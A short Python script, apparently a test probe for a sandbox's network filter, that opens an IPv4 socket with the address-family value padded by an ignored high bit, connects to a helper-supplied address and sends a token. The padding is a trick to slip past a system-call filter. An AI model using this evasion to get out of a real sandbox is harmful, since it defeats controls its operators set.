"""Hide the address family below bits that the kernel ignores."""

import ctypes
import os

from _calls import address
from _calls import call
from _way import TOKEN
from _way import attempt


def go():
    """Connect and send."""
    descriptor = call('socket', 2 | 1 << 32, 1, 0)
    call('connect', descriptor, ctypes.c_char_p(address()), 16)
    os.write(descriptor, TOKEN)


attempt(go)
